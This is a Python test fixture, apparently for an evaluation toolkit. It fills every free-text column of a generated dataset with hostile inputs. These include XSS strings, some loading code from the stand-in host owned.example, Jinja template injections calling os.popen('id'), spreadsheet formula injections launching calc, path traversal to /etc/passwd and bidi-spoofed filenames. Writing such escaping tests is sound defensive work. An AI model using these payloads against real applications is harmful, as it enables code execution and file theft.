"""Texts that try to run, to load, to break out or to confuse, and a programme year that has them in every free text."""

from __future__ import annotations

from pathlib import Path

from evalkit.schema import TableSchema, load_schemas
from tests.make import make_full_year

RUN = "window.owned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=//owned.example/x.js></script>",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"</svg></text><foreignObject><body onload={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "<iframe src=http://owned.example/></iframe>",
    f'<a href="javascript:{RUN}">press</a>',
    f"<a href='data:text/html,<script>{RUN}</script>'>press</a>",
    f"[press](javascript:{RUN})",
    "![picture](http://owned.example/x.png)",
    f"`` <img src=x onerror={RUN}> ``",
    f"# heading\n\n<details open ontoggle={RUN}>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><script>{RUN}</script>]]>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{indicator.__class__} {0} {name} %(name)s ${name}",
    r"\(\def\x{\href{javascript:window.owned=1}{x}}\x\)",
    r"$\unicode{<img src=x onerror=window.owned=1>}$ $$\input{/etc/passwd}$$",
    "</style><style>body{display:none}</style>",
    "x; background:url(http://owned.example/x.png); position:fixed; inset:0",
    "<style>@import url(http://owned.example/x.css);</style>",
    "<link rel=stylesheet href=http://owned.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://owned.example/'>",
    "<base href=http://owned.example/>",
    f"<form action=http://owned.example/><button formaction=javascript:{RUN}>press</button></form>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    f"<button type=button class=ek-n data-trace=granted onclick={RUN}>36 %</button>",
    f"<template><img src=x onerror={RUN}></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "=HYPERLINK(\"http://owned.example/\",\"press\")",
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "乐善\u202egnp.exe\u202c公益",
    "and \u202eto the end of the line",
    "\u2066<script>\u2069 مرحبا بالعالم 12 %",
    "乐\u200b善\u200d公\u2060益\ufeff",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳 😀",
    "\x1b[31mred\x1b[0m",
    "fi\u2028\u2029x\x85y",
    "\U000e0041\U000e0042\ufffe\U0001fffe",
    "%3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e",
    "../../../../etc/passwd file:///etc/passwd",
    "长" * 300,
    "W" * 300,
)  # fmt: skip


SECTIONS = (
    "1.1",
    "1.2",
    "1.3",
    "2.1",
    "2.2",
    "2.3.1",
    "2.3.2",
    "2.4",
    "2.5",
    "3.1",
    "3.2",
    "4.1",
    "5.1",
    "6.1",
    "7.1",
    "8",
)
# Texts of a given form: a reader refuses any other, so that nothing else ever comes into a page.
FORMED = {
    ("programme", "currency"): lambda row: "CNY",
    ("statements", "section"): lambda row: SECTIONS[row % len(SECTIONS)],
    ("statements", "evidence"): lambda row: f"activities:activities-{row}" if row % 2 else "",
    ("strategy", "themes"): lambda row: "team;finance",
}


def free_texts(schema: TableSchema) -> list[str]:
    """The columns into which anybody may write anything."""
    keys = {schema.key, *(key.column for key in schema.foreign_keys)}
    return [
        name
        for name, column in schema.columns.items()
        if column.type == "string"
        and name not in keys
        and "enum" not in column.constraints
        and (schema.name, name) not in FORMED
    ]


def make_hostile_year(folder: Path) -> Path:
    """Every table evalkit knows, with each payload in each of its free texts; the programme, one row, has them all."""
    free = {schema.name: set(free_texts(schema)) for schema in load_schemas().values()}

    def text(table: str, column: str, row: int) -> str | None:
        if (table, column) in FORMED:
            return FORMED[table, column](row)
        if column not in free[table]:
            return None
        return " ".join(PAYLOADS) if table == "programme" else PAYLOADS[row % len(PAYLOADS)]

    return make_full_year(folder, rows=len(PAYLOADS), grantees=len(PAYLOADS), text=text)
